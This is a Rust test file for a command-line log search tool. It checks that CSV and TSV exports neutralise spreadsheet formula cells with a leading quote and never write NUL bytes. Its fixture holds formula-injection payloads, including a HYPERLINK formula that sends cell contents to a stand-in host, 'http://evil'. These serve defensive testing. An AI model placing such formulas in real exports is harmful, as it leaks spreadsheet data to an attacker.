//! CSV and TSV opened in a spreadsheet: text a sender chose (span names, attributes, log bodies)
//! must not run there as a formula, and no cell may hold a raw NUL.

use super::*;
use crate::common::*;

/// One row whose keys and values a hostile sender chose, as `logs search` receives it.
const HOSTILE_PAGE: &str = r#"{"data":[{
    "=cmd": "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
    "plus": "+1+2",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\tx",
    "cr": "\r=x",
    "text_number": "-5",
    "number": -5,
    "safe": "a=b"
}],"nextCursor":null}"#;

async fn hostile(args: &str) -> Output {
    let server = serve("POST", LOGS_SEARCH, json_response(HOSTILE_PAGE)).await;
    kopai_at(&server.uri(), &words(args))
}

#[tokio::test]
async fn cells_a_spreadsheet_would_run_get_a_leading_quote() {
    let out = hostile("logs search -o csv").await;
    assert_ok(&out);
    assert_eq!(
        out.stdout,
        "'=cmd,plus,minus,at,tab,cr,text_number,number,safe\r\n\
         \"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",'+1+2,'-2+3,'@SUM(A1),'\tx,\"'\r=x\",-5,-5,a=b\r\n"
    );
    let out = hostile("logs search -o tsv").await;
    assert_ok(&out);
    assert_eq!(
        out.stdout,
        "'=cmd\tplus\tminus\tat\ttab\tcr\ttext_number\tnumber\tsafe\n\
         '=HYPERLINK(\"http://evil/?\"&A1,\"click\")\t'+1+2\t'-2+3\t'@SUM(A1)\t'\\tx\t'\\r=x\t-5\t-5\ta=b\n"
    );
}

#[tokio::test]
async fn csv_raw_writes_cells_as_sent() {
    let out = hostile("logs search -o csv --csv-raw").await;
    assert_ok(&out);
    assert!(
        out.stdout.starts_with("=cmd,plus,minus,at,tab,cr,text_number,number,safe\r\n\
             \"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",+1+2,-2+3,@SUM(A1),\tx,\"\r=x\",-5,-5,a=b\r\n"),
        "{:?}",
        out.stdout
    );
    let out = hostile("logs search -o tsv --csv-raw").await;
    assert_ok(&out);
    assert!(out.stdout.contains("\n=HYPERLINK("), "{:?}", out.stdout);
}

#[tokio::test]
async fn csv_raw_with_another_format_is_a_usage_error() {
    let server = accepting_server().await;
    for format in ["json", "ndjson", "table"] {
        let out = kopai_at(
            &server.uri(),
            &["traces", "search", "-o", format, "--csv-raw"],
        );
        assert_failed(&out, 2);
        assert!(out.stderr.contains("--csv-raw"), "{}", out.stderr);
    }
    assert!(requests(&server).await.is_empty(), "nothing may be sent");
}

#[tokio::test]
async fn a_nul_is_never_written_raw() {
    let page = r#"{"data":[{"Body":"a\u0000b"}],"nextCursor":null}"#;
    let server = serve("POST", LOGS_SEARCH, json_response(page)).await;
    for (format, expected) in [("csv", "Body\r\na\u{FFFD}b\r\n"), ("tsv", "Body\na\\0b\n")] {
        for raw in [&[][..], &["--csv-raw"][..]] {
            let mut args = vec!["logs", "search", "-o", format];
            args.extend_from_slice(raw);
            let out = kopai_at(&server.uri(), &args);
            assert_ok(&out);
            assert_eq!(out.stdout, expected, "{args:?}");
        }
    }
}
